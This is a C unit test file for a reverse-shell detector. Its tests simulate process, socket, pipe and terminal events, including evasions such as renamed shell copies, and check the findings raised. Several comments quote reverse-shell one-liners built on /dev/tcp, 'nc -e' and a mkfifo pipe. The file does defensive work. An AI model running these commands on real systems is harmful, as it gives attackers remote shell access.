/* SPDX-License-Identifier: Apache-2.0 */
/* reverse-shell: ways in which a shell is spoken to from elsewhere, and ways to hide it. */
#include "indicators/shell_feed.h"

/* ---- what must raise it ---------------------------------------------------------------------- */

/* bash -i >& /dev/tcp/…, perl's exec, nc -e: the flow is the process's own, or its parent's. */
static void its_stdin_is_the_socket(void **state)
{
	static const struct {
		const char *addr;
		uint32_t owner;
		unsigned score;
	} rows[] = {
		{ "203.0.113.7", SHELL, 90 },
		{ "203.0.113.7", RELAY, 90 },
		{ "10.0.0.9", SHELL, 60 },
		{ "127.0.0.1", SHELL, 45 }, /* a tunnel's end */
	};

	(void)state;
	for (size_t i = 0; i < NW_ARRAY_SIZE(rows); i++) {
		struct nw_feed *f = start("");

		move(f, (struct line){ COOKIE, rows[i].owner, rows[i].addr, 443, false, 0 });
		run_shell(f, RELAY, ALL(NW_STDIO_INET), COOKIE, COOKIE);
		assert_int_equal(only(f, rows[i].score, "socket")->action, NW_FINDING_OPENED);
		nw_feed_free(f);
	}
}

/* The measure comes after the exec; and a session so short that it has none but its last word. */
static void the_socket_is_told_later(void **state)
{
	static const enum nw_sock_what rows[] = { NW_SOCK_BIN, NW_SOCK_CLOSE };

	(void)state;
	for (size_t i = 0; i < NW_ARRAY_SIZE(rows); i++) {
		struct nw_feed *f = start("");
		struct nw_ev_sock e;

		run_shell(f, RELAY, ALL(NW_STDIO_INET), COOKIE, COOKIE);
		none(f);
		e = sock(f, rows[i], out);
		nw_feed_event(f, &e.ev);
		only(f, 90, "socket");
		nw_feed_free(f);
	}
}

static void somebody_holds_its_terminal(void **state)
{
	static const struct {
		const char *addr;
		unsigned score;
	} rows[] = { { "203.0.113.7", 90 }, { "10.0.0.9", 60 } };

	(void)state;
	for (size_t i = 0; i < NW_ARRAY_SIZE(rows); i++) {
		struct nw_feed *f = start("");
		struct line l = out;

		l.addr = rows[i].addr;
		move(f, l);
		run_shell(f, RELAY, ALL(NW_STDIO_PTY), 50, 50);
		hold_terminal(f, RELAY); /* and the flow is silent from now on */
		pass(f, 1);
		none(f); /* who knows what else it has */
		pass(f, 2);
		assert_string_equal(only(f, rows[i].score, "terminal")->evidence[6].text,
				    "/opt/relay");
		nw_feed_free(f);
	}
}

/* Of a process that was given the socket, and owns none. */
static void who_holds_the_terminal_has_the_socket_from_another(void **state)
{
	struct nw_feed *f = start("");
	struct nw_ev_sock e;

	(void)state;
	run_shell(f, RELAY, ALL(NW_STDIO_PTY), 50, 50);
	hold_terminal(f, RELAY);
	e = sock(f, NW_SOCK_BIN, (struct line){ COOKIE, INIT, "203.0.113.7", 443, false, 0 });
	e.sender = nw_feed_pid(RELAY);
	nw_feed_event(f, &e.ev);
	pass(f, 3);
	only(f, 90, "terminal");
	nw_feed_free(f);
}

static void somebody_made_pipes_for_it(void **state)
{
	struct nw_feed *f = start("");

	(void)state;
	move(f, out);
	run_shell(f, RELAY, ALL(NW_STDIO_PIPE), 60, 61);
	feed_pipes(f);
	pass(f, 3);
	only(f, 75, "pipes");
	nw_feed_free(f);
}

/* mkfifo f; cat f | sh -i | nc host port > f */
static void a_filter_between_its_stdout_and_its_stdin(void **state)
{
	struct nw_feed *f = start("");

	(void)state;
	run_shell(f, INIT, ALL(NW_STDIO_PIPE), 60, 61);
	nw_feed_proc(f, (struct nw_feed_exec){ .pid = RELAY,
					       .parent = INIT,
					       .exe = "/usr/bin/nc",
					       .flags = ALL(NW_STDIO_PIPE),
					       .stdio_ino = { 61, 62 } });
	hold(f, NW_FD_PIPE, RELAY, 61, NW_FD_READ);
	hold(f, NW_FD_PIPE, SHELL, 61, NW_FD_WRITE);
	hold(f, NW_FD_PIPE, RELAY, 62, NW_FD_WRITE);
	hold(f, NW_FD_PIPE, FEEDER, 62, NW_FD_READ); /* cat */
	hold(f, NW_FD_PIPE, FEEDER, 60, NW_FD_WRITE);
	hold(f, NW_FD_PIPE, SHELL, 60, NW_FD_READ);
	end_scan(f);
	move(f, out);
	pass(f, 3);
	only(f, 90, "filter");
	nw_feed_free(f);
}

/* ---- evasions -------------------------------------------------------------------------------- */

/* A file that nobody knows, whatever it is called: it runs others on what it has itself. */
static void a_copy_of_a_shell(void **state)
{
	struct nw_feed *f = start("");

	(void)state;
	move(f, out);
	nw_feed_proc(f, (struct nw_feed_exec){ .pid = SHELL,
					       .parent = RELAY,
					       .exe = "/tmp/.x/update",
					       .exe_ino = 1,
					       .flags = ALL(NW_STDIO_INET),
					       .stdio_ino = { COOKIE, COOKIE, COOKIE } });
	none(f);
	run_child(f, ALL(NW_STDIO_INET), COOKIE, COOKIE);
	assert_string_equal(only(f, 90, "socket")->evidence[1].text, "deed");
	nw_feed_free(f);
}

/* The file is known, whatever name it has; of another root only the name is. */
static void a_shell_by_its_file_or_its_name(void **state)
{
	static const struct {
		const char *exe;
		uint64_t ino;
		const char *by;
	} rows[] = { { "/tmp/kworker", SH_INO, "file" }, { "/bin/dash", 99, "name" } };

	(void)state;
	for (size_t i = 0; i < NW_ARRAY_SIZE(rows); i++) {
		struct nw_feed *f = start("");

		move(f, out);
		nw_feed_proc(f, (struct nw_feed_exec){ .pid = SHELL,
						       .parent = RELAY,
						       .exe = rows[i].exe,
						       .exe_ino = rows[i].ino,
						       .flags = ALL(NW_STDIO_INET),
						       .stdio_ino = { COOKIE, COOKIE, COOKIE } });
		assert_string_equal(only(f, 90, "socket")->evidence[1].text, rows[i].by);
		nw_feed_free(f);
	}
}

/* exec 5<>/dev/tcp/…; while read l <&5; do $l >&5 2>&5; done */
static void all_that_its_children_say_goes_there(void **state)
{
	struct nw_feed *f = start("");

	(void)state;
	run_shell(f, INIT, 0, 0, 0);
	move(f, (struct line){ COOKIE, SHELL, "203.0.113.7", 80, false, 0 });
	run_child(f, IN(NW_STDIO_INET) << 3 | IN(NW_STDIO_INET) << 6, 0, COOKIE);
	only(f, 90, "socket");
	nw_feed_free(f);
}

/* dup2() after the exec, and a shell that was there before the start: a look at open files tells. */
static void its_stdin_became_the_socket(void **state)
{
	struct nw_feed *f = start("");
	struct nw_ev_fd e = { .scan_ns = f->now_ns, .family = AF_INET, .cookie = COOKIE };

	(void)state;
	move(f, out);
	nw_feed_proc(f,
		     (struct nw_feed_exec){
			     .what = NW_PROC_FOUND, .pid = SHELL, .exe = SH, .exe_ino = SH_INO });
	e.ev = nw_feed_head(f, sizeof(e), NW_SHAPE_FD, NW_FD_SOCKET);
	e.self = nw_feed_pid(SHELL);
	for (e.fd = 0; e.fd < 3; e.fd++) {
		nw_feed_event(f, &e.ev);
	}
	only(f, 90, "socket");
	nw_feed_free(f);
}

/* ---- as long as it goes on ------------------------------------------------------------------- */

static void one_finding_that_closes(void **state)
{
	struct nw_feed *f = start("");
	struct line l = out;

	(void)state;
	move(f, l);
	run_shell(f, RELAY, ALL(NW_STDIO_INET), COOKIE, COOKIE);
	for (unsigned i = 0; i < 100; i++) {
		l.bytes = 100 + i;
		move(f, l);
		nw_feed_tick(f, SECOND);
	}
	assert_int_equal(nw_feed_count(f, NW_DATASET_FINDING), 2); /* opened, and once a minute */
	assert_int_equal(nw_feed_told(f, NW_DATASET_FINDING, 1)->finding.action,
			 NW_FINDING_UPDATED);
	nw_feed_forget(f);
	pass(f, 301);
	assert_int_equal(nw_feed_only(f, NW_DATASET_FINDING)->finding.action, NW_FINDING_CLOSED);
	assert_int_equal(nw_feed_only(f, NW_DATASET_FINDING)->finding.score, 90);
	nw_feed_free(f);
}

/* More shells and relays than there is room for: nothing breaks, and the next one is seen. */
static void a_flood_of_shells(void **state)
{
	struct nw_feed *f = start("");

	(void)state;
	for (uint32_t i = 0; i < 500; i++) {
		nw_feed_proc(f,
			     (struct nw_feed_exec){ .pid = 1000 + i,
						    .parent = INIT,
						    .exe = SH,
						    .exe_ino = SH_INO,
						    .flags = ALL(NW_STDIO_PTY),
						    .stdio_ino = { 900 + i, 900 + i, 900 + i } });
		nw_feed_forget(f);
	}
	move(f, out);
	run_shell(f, RELAY, ALL(NW_STDIO_INET), COOKIE, COOKIE);
	only(f, 90, "socket");
	nw_feed_free(f);
}

NW_TESTS(indicators_reverse_shell, cmocka_unit_test(its_stdin_is_the_socket),
	 cmocka_unit_test(the_socket_is_told_later), cmocka_unit_test(somebody_holds_its_terminal),
	 cmocka_unit_test(who_holds_the_terminal_has_the_socket_from_another),
	 cmocka_unit_test(somebody_made_pipes_for_it),
	 cmocka_unit_test(a_filter_between_its_stdout_and_its_stdin),
	 cmocka_unit_test(a_copy_of_a_shell), cmocka_unit_test(a_shell_by_its_file_or_its_name),
	 cmocka_unit_test(all_that_its_children_say_goes_there),
	 cmocka_unit_test(its_stdin_became_the_socket), cmocka_unit_test(one_finding_that_closes),
	 cmocka_unit_test(a_flood_of_shells));
